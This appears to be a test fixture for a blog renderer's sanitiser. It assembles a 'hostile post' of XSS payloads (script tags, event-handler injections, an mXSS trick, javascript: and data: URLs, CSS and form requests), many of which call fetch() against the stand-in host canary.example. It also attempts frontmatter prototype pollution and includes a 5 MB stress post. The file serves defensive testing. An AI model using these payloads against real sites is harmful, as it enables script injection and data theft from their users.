/** Where a hostile post would call if it could; no such host exists. */
const canary = 'https://canary.example';

/** Ways in which a post could try to run, request, or take over something. Each that runs sets `window.canary`. */
const attacks = [
  `<script>window.canary = 'script'; fetch('${canary}/script')</script>`,
  `<script src="${canary}/script.js"></script>`,
  `<img src=x onerror="window.canary = 'onerror'; fetch('${canary}/onerror')">`,
  `<img src=x:x onerror=window.canary=1><details open ontoggle="window.canary='toggle'"><summary>x</summary></details>`,
  `<svg onload="window.canary='svg'; fetch('${canary}/svg')"><script>window.canary='svgscript'; fetch('${canary}/svgscript')</script><image href="${canary}/svg-image"/><use href="${canary}/use#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.canary='mxss'&gt;"></mglyph></table></mtext></math>`,
  `<iframe src="${canary}/frame"></iframe><iframe srcdoc="<script>parent.canary='srcdoc'</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=${canary}/meta">`,
  `<form action="${canary}/form"><input name=q autofocus onfocus="window.canary='focus'; this.form.submit()"><button formaction="${canary}/formaction">x</button></form>`,
  `<style>body { background: url(${canary}/css) } @import '${canary}/import.css';</style><p style="background:url(${canary}/inline)">x</p>`,
  `<link rel="stylesheet" href="${canary}/link.css"><link rel="preload" as="image" href="${canary}/preload"><base href="${canary}/">`,
  `[click](javascript:window.canary='js') <a href="jav&#x09;ascript:window.canary='tab'">y</a> <a href="data:text/html,<script>opener.canary=1</script>">z</a>`,
  `![data](data:text/html,<script>window.canary='data'</script>) <object data="data:text/html,<script>parent.canary='object'</script>"></object>`,
  `<video src="${canary}/video" poster="${canary}/poster" autoplay></video><object data="${canary}/object"></object><embed src="${canary}/embed">`,
  `<picture><source srcset="${canary}/srcset"><img srcset="${canary}/srcset2 2x" src="${canary}/picture"></picture><table background="${canary}/background"><tr><td>x</td></tr></table>`,
  '![remote](//canary.example/protocol-relative.png)',
  `<a href="${canary}/ping" ping="${canary}/pinged">x</a>`,
  '# \\_\\_proto\\_\\_\n\n# constructor\n\n## `hasOwnProperty`\n\n# `__proto__`\n\n[^__proto__] [^constructor]\n\n[^__proto__]: A note.\n\n[^constructor]: Another.',
  '<p id="article">a</p><p id="notes">b</p><a name="images" id="show-images">c</a>',
];

/** A post that tries all of them, and ends in words that say that it is shown to its end. */
export const hostilePost = `---
title: 'Hostile <img src=x onerror=window.canary=1>'
description: '<script>window.canary = 1</script>'
heroImage: 'https://canary.example/hero"onerror="window.canary=1'
pubDate: 2025-06-30
__proto__: { polluted: yes }
constructor: x
---

${attacks.join('\n\n')}

The end of it.
`;

/** A post of one line of 5 MB. */
export const enormousPost = `---\ntitle: 'Enormous'\n---\n\n${`${'word '.repeat(190)}[a link](https://a.example/) and *more*. `.repeat(5_200)}The end of it.\n`;

/** Elements that no page of ours has where a post is. */
export const forbidden = ':is(script, iframe, form, input, button, style, link, meta, base, object, embed, video, svg, math, source)';
